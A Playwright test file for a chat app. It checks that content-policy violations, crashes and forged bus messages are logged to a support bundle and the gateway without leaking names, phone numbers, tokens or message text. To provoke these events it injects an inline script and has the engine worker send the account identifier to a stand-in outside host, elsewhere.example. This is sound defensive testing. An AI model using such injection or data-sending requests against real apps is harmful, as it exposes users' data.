// Errors in a page and in the engine are visible: to the person in the support bundle, to the operators in the log.
import type { Page } from '@playwright/test';
import { busName } from '@amber/client/bus';
import { accountOf } from '../kit/accountOf.ts';
import { readFileSync } from 'node:fs';
import { logLeaks } from '../kit/logLeaks.ts';
import {
  expect,
  expectAccessible,
  openChat,
  message,
  sendMessage,
  completeProfile,
  signIn,
  test,
  withoutServiceWorker,
} from '../kit/world.ts';

/** A page that sends arbitrary messages over the bus. */
const postForgedProblems = (page: Page, problems: readonly object[]) =>
  page.evaluate(
    ({ problems, busName }) => {
      const bus = new BroadcastChannel(busName);
      for (const request of problems)
        bus.postMessage({ kind: 'call', page: 'liar', call: crypto.randomUUID(), name: 'noteProblem', request });
    },
    { problems, busName },
  );

test("R193 R229 T4 violations and failures reach the bundle and the gateway's log, without a word of anybody's", async ({
  newcomer,
  person,
  world,
  complaints,
}) => {
  const bob = await person('Bruno Canarybird', withoutServiceWorker);
  const carla = await newcomer('Carla Canary');
  // Playwright can inspect a worker of one page, not a shared one.
  await carla.context.addInitScript(() => {
    Reflect.deleteProperty(globalThis, 'SharedWorker');
  });
  const { page } = carla;
  await page.goto(world.url);
  await signIn(carla, world.gateway);
  await completeProfile(carla);
  await openChat(carla, bob.name);
  await sendMessage(carla, 'the secret canary sings');
  await expect(message(page, 'the secret canary sings')).toHaveCount(1);
  const { identifier, token, deviceId } = await accountOf(page);
  const chat = page.url().split('/').at(-1)!;
  const canaries = [
    'Carla',
    'Canarybird',
    'canary sings',
    carla.phone.slice(1),
    bob.phone.slice(1),
    identifier,
    token,
    deviceId,
    chat,
  ];

  await page.evaluate(() =>
    document.body.append(
      Object.assign(document.createElement('script'), { textContent: 'globalThis.canary = "Carla"' }),
    ),
  );
  await page.evaluate(() => {
    setTimeout(() => {
      throw new TypeError('Carla Canary cannot be read');
    });
  });
  const engine = page.workers().find((worker) => worker.url().includes('engine'))!;
  await engine.evaluate((name) => fetch(`https://elsewhere.example/${name}`).catch(() => {}), identifier);
  await postForgedProblems(page, [
    ...canaries.map((canary) => ({ what: canary, code: canary, about: canary, request: canary })),
    { what: 'call', code: 'NO_RESPONSE', about: `message.sync ${identifier}` },
  ]);

  // Another load would end the tab's worker and its log with it.
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Settings' }).click();
  await page.getByRole('navigation', { name: 'Settings' }).getByRole('link', { name: 'About' }).click();
  const problems = page.getByRole('list', { name: 'Recent problems' });
  await expect(
    problems.getByRole('listitem').filter({ hasText: 'The content policy blocked something in the engine' }),
  ).toContainText('connect-src elsewhere');
  await expect(
    problems.getByRole('listitem').filter({ hasText: /^The content policy blocked something(?! in)/ }),
  ).toContainText('script-src-elem inline');
  await expect(problems.getByRole('listitem').filter({ hasText: 'A page failed' })).toContainText('TypeError');
  await expectAccessible(page);

  // By keyboard, as everything here.
  await page.getByRole('region', { name: 'Contents' }).focus();
  await page.keyboard.press('Tab');
  await expect(page.getByRole('button', { name: 'Copy' })).toBeFocused();
  await page.keyboard.press('Tab');
  const [download] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('Enter')]);
  const bundle = readFileSync((await download.path())!, 'utf8');
  expect(logLeaks(bundle, canaries)).toEqual([]);
  expect((JSON.parse(bundle) as { problems: { what: string }[] }).problems.map(({ what }) => what)).toEqual(
    expect.arrayContaining(['violation', 'engineViolation', 'crash', 'other', 'call']),
  );

  const told = () =>
    world.gateway
      .output()
      .split('\n')
      .filter((line) => line.includes('problem on a device'))
      .join('\n');
  await expect.poll(told).toContain('"what":"engineViolation","code":"elsewhere","about":"connect-src"');
  expect(told()).toContain('"what":"violation","code":"inline","about":"script-src-elem"');
  expect(told()).toContain('"what":"crash","code":"TypeError"');
  expect(logLeaks(world.gateway.output(), canaries)).toEqual([]);
  await page.reload();
  await expect(page.getByRole('region', { name: 'Contents' })).toContainText('violation script-src-elem inline');
  await expect(page.getByRole('region', { name: 'Contents' })).toContainText('engineViolation connect-src elsewhere');
  expect(complaints.splice(0)).toEqual(
    expect.arrayContaining([
      expect.stringContaining('page: script-src-elem'),
      expect.stringContaining('engine: connect-src'),
      expect.stringContaining('cannot be read'),
    ]),
  );
});
